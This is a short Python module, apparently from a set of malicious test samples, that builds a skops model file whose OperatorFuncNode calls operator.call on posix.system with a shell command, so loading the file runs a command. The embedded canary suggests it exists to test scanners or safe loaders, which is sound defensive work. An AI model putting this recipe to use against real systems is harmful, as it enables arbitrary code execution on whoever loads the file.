"""OperatorFuncNode calls any function of operator, and operator.call calls anything."""

from __future__ import annotations

from malicious_samples.recipes import json_node, node, sequence, shell, skops


def build(canary: str) -> bytes:
    function = node("FunctionNode", "posix", "system")
    attrs = sequence("tuple", function, json_node(shell(canary)))
    return skops(node("OperatorFuncNode", "operator", "call", attrs=attrs))
